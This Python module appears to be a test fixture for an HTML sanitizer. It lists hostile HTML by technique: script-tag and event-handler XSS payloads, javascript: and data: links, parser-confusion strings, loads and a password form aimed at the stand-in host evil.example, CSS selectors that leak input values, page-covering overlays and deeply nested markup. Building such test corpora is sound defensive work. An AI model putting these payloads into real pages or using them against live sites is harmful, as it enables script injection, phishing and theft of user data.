"""HTML that would act, load or cover, by the technique it uses; `EVIL` is never to be asked."""

EVIL = "http://evil.example"
RUN = "document.documentElement.dataset.hit='1';alert(1)"

SCRIPTS = {
    "a script": [
        f"<script>{RUN}</script>",
        f"<SCRIPT/XSS>{RUN}</SCRIPT>",
        f"<script\n>{RUN}</script\t\n bar>",
    ],
    "a script from elsewhere": [
        f"<script src={EVIL}/a.js></script>",
        "<script src=//evil.example/a.js>",
    ],
    "a script in a script": [
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
    ],
    "a module": [
        f"<script type=module>import '{EVIL}/m.js'</script>",
        f"<link rel=modulepreload href={EVIL}/m.js>",
    ],
    "a NUL in a tag": [f"<scr\x00ipt>{RUN}</scr\x00ipt>", f'<img \x00src=x \x00onerror="{RUN}">'],
    "an error of an image": [
        f'<img src=x onerror="{RUN}">',
        f'<image src=x onerror="{RUN}">',
        f'<img src=x:x onerror\n="{RUN}">',
    ],
    "an event without blanks": [f'<svg/onload="{RUN}">', f'<img/src=x/onerror="{RUN}">'],
    "an event that comes by itself": [
        f'<body onload="{RUN}">',
        f'<details open ontoggle="{RUN}">x</details>',
        f'<marquee onstart="{RUN}">x</marquee>',
        f'<input autofocus onfocus="{RUN}">',
        f'<video onloadstart="{RUN}" src=x></video>',
        f"<div style='animation:a 1s' onanimationstart=\"{RUN}\">x</div>",
    ],
    "an event of the mouse": [
        f'<p onmouseover="{RUN}">x</p>',
        f'<a href=# onclick="{RUN}">x</a>',
        f"<p ONPOINTERENTER='{RUN}'>x",
    ],
    "a drawing that runs": [
        f"<svg><script>{RUN}</script></svg>",
        f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
        f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
        f'<svg><set attributeName=onmouseover to="{RUN}">',
        f"<svg><use href=\"data:image/svg+xml,<svg id=x onload='{RUN}'/>#x\"></svg>",
    ],
    "a formula that runs": [
        f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">x</maction></math>',
        f'<math href="javascript:{RUN}">x</math>',
    ],
    "parsers that disagree": [
        (
            "<math><mtext><table><mglyph><style><!--</style>"
            f"<img title=\"--&gt;&lt;img src=1 onerror='{RUN}'&gt;\">"
        ),
        f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
        f"<svg></p><style><a id=\"</style><img src=1 onerror='{RUN}'>\">",
        f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
        f"<textarea><img title=\"</textarea><img src=x onerror='{RUN}'>\"></textarea>",
        f"<xmp><p title=\"</xmp><svg/onload='{RUN}'>\"></xmp>",
        f"<select><style><h1 title=\"</style><img src onerror='{RUN}'>\">",
    ],
    "something left open": [
        f"<p title=\"x><img src=x onerror='{RUN}'>",
        f'<!--><img src=x onerror="{RUN}">',
        f"<![CDATA[<img src=x onerror='{RUN}'>]]>",
        "<p " * 50,
    ],
    "a comment for one browser": [
        f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
        f"<comment><img src=\"</comment><img src=x onerror='{RUN}'>\">",
    ],
    "a template": [
        f'<template><img src=x onerror="{RUN}"></template>',
        f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    ],
}

LINKS = {
    "a link that runs": [
        f'<a href="javascript:{RUN}">x</a>',
        f'<a href="JaVaScRiPt:{RUN}">x</a>',
        f'<a href=" javascript:{RUN}">x</a>',
    ],
    "a hidden link that runs": [
        f'<a href="jav&#x09;ascript:{RUN}">x</a>',
        f'<a href="java\nscript:{RUN}">x</a>',
        f'<a href="&#106;avascript&colon;{RUN}">x</a>',
        f'<a href="\x01javascript:{RUN}">x</a>',
    ],
    "a link to a page of its own": [
        f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ],
    "an old scheme": [
        '<a href="vbscript:MsgBox(1)">x</a>',
        '<a href="livescript:x">x</a>',
        '<a href="mocha:x">x</a>',
        "<a href=file:///etc/passwd>x</a>",
        '<a href="view-source:x">x</a>',
    ],
    "a way to another place": [
        f'<meta http-equiv=refresh content="0;url={EVIL}/">',
        f"<META HTTP-EQUIV='Refresh' CONTENT='0;URL=data:text/html,{RUN}'>",
    ],
    "another base": [
        f"<base href={EVIL}/><a href=/sign-in/>x</a>",
        "<base target=_top><a href=/x>x</a>",
    ],
    "a page behind the link": [
        f"<a target=_top href={EVIL}>x</a>",
        f"<a target=opener rel=opener href={EVIL}>x</a>",
    ],
    "an area to press": [
        f"<map name=m><area shape=rect coords=0,0,999,999 href={EVIL}></map><img usemap=#m src=cid:x>"
    ],
}

FRAMES = {
    "a frame": [
        f"<iframe src={EVIL}></iframe>",
        f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
        f"<frameset><frame src={EVIL}></frameset>",
        f'<iframe src="javascript:{RUN}">',
    ],
    "an object": [
        f"<object data={EVIL}/x.swf></object>",
        f"<embed src={EVIL}/x.svg>",
        f"<applet code=x codebase={EVIL}></applet>",
        f'<object type=text/html data="data:text/html,<script>{RUN}</script>">',
    ],
    "a portal": [f"<portal src={EVIL}></portal>", f"<fencedframe src={EVIL}></fencedframe>"],
}

FORMS = {
    "a form": [
        f"<form action={EVIL}><input name=password type=password><button>Sign in</button></form>",
        "<form action=/sign-out/ method=post><button>x</button></form>",
    ],
    "a button of another form": [
        f'<button form=x formaction="javascript:{RUN}">x</button>',
        f"<input type=submit formaction={EVIL} value=x>",
        "<isindex type=image src=1 onerror=alert(1)>",
    ],
    "names that shadow ours": [
        "<a id=htmx name=htmx>x</a>",
        "<img name=cookie><form id=body></form>",
        "<p id=main>x</p><input id=csrfmiddlewaretoken>",
    ],
    "attributes of our scripts": [
        f"<p hx-get={EVIL} hx-trigger=load>x</p>",
        f'<div data-hx-on::load="{RUN}">x</div>',
        "<p data-palette data-poll>x</p>",
    ],
}

LOADS = {
    "an image from elsewhere": [
        f"<img src={EVIL}/1.png>",
        "<img src=//evil.example/1.png>",
        '<img src="HTTP://evil.example/1.png">',
        "<img src='\thttp://evil.example/1.png'>",
    ],
    "an image in other clothes": [
        f'<img srcset="{EVIL}/1.png 2x">',
        f"<picture><source srcset={EVIL}/1.png><img></picture>",
        f"<img lowsrc={EVIL}/1.png dynsrc={EVIL}/1.avi>",
        f"<input type=image src={EVIL}/1.png>",
    ],
    "a background": [
        f"<body background={EVIL}/1.png>",
        f"<table background={EVIL}/1.png><td background={EVIL}/2.png>x</table>",
    ],
    "sound and film": [
        f"<video poster={EVIL}/1.png src={EVIL}/1.mp4 autoplay>",
        f"<audio src={EVIL}/1.mp3 autoplay>",
        f"<video><track default src={EVIL}/1.vtt><source src={EVIL}/1.mp4></video>",
        f"<bgsound src={EVIL}/1.mid>",
    ],
    "a sheet of styles": [
        f"<link rel=stylesheet href={EVIL}/1.css>",
        f"<style>@import '{EVIL}/1.css';</style>",
        f"<style>@font-face{{font-family:a;src:url({EVIL}/f)}}p{{font-family:a}}</style><p>x",
    ],
    "something fetched ahead": [
        f"<link rel=prefetch href={EVIL}>",
        "<link rel=dns-prefetch href=//evil.example>",
        f"<link rel=preconnect href={EVIL}>",
        f"<link rel=preload as=image href={EVIL}/1.png>",
        f"<a ping={EVIL}/p href=#x>x</a>",
    ],
    "an address in a style": [
        f'<p style="background:url({EVIL}/1.png)">x</p>',
        f'<p style="background-image:u\\72l({EVIL}/1.png)">x</p>',
        f"<p style=\"list-style-image:url('{EVIL}/1.png')\">x</p>",
        f"<p style=\"content:image-set('{EVIL}/1.png' 1x)\">x</p>",
        f'<p style="border-image:url({EVIL}/b.png)">x',
        f'<p style="cursor:url({EVIL}/c.cur),auto">x',
        f'<p style="filter:url({EVIL}/f.svg#x)">x',
    ],
    "a picture that loads": [
        f"<svg><image href={EVIL}/1.png /></svg>",
        f"<svg><feImage xlink:href={EVIL}/1.png /></svg>",
        f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">",
    ],
    "secrets guessed by styles": [
        f"<style>input[value^=a]{{background:url({EVIL}/a)}}</style>",
        f"<style>@media (min-width:1px){{body{{background:url({EVIL}/w)}}}}</style>",
    ],
    "a style that runs": [
        '<p style="width:expression(alert(1))">x</p>',
        '<p style="behavior:url(x.htc)">x</p>',
        '<p style="-moz-binding:url(x.xml#y)">x</p>',
        '<p style="width:e\\xpression(alert(1))">x',
    ],
}

COVERS = {
    "a layer over everything": [
        '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Your session ended.</div>',
        '<div style="position:absolute;top:-999px;left:0;width:100%">x</div>',
        '<div style="POSITION : sticky;top:0">x</div>',
        '<div style="posit\\69on:fixed">x</div>',
        '<div style="position:/**/fixed;top:0">x',
    ],
    "moved over the rest": [
        '<p style="margin-top:-500px">x</p>',
        '<p style="transform:translate(-100vw)">x</p>',
        '<p style="float:left;margin:-99em">x',
        '<p style="translate:-50vw -50vh">x',
    ],
    "letters as large as the page": [
        '<p style="font-size:4000px">x</p>',
        '<p style="line-height:9999">x</p>',
        "<font size=99999>x</font>",
        '<p style="letter-spacing:9999em">x',
    ],
    "a table without end": [
        "<table width=99999999 height=99999999><td>x</table>",
        "<td colspan=99999999>x",
        '<p style="width:1e9px">x',
    ],
    "a window of its own": [
        "<dialog open>Sign in again</dialog>",
        "<div popover id=p>x</div><button popovertarget=p>x</button>",
    ],
    "letters that turn round": [
        "<p>\u202egnp.exe\u202c</p>",
        "<p dir=rtl>\u2066x\u2069\u200f</p>",
        "<bdo dir=rtl>x</bdo>",
    ],
    "deep nests": [
        "<div>" * 3000 + "x",
        "<blockquote>" * 600 + "x",
        "<font>" * 2000 + "x",
        "<b><i>" * 1500 + "x",
        "<table><tr><td>" * 500 + "x",
    ],
    "very many links": [f"<a href={EVIL}>x</a>" * 4000],
}

PAGES: dict[str, list[str]] = SCRIPTS | LINKS | FRAMES | FORMS | LOADS | COVERS
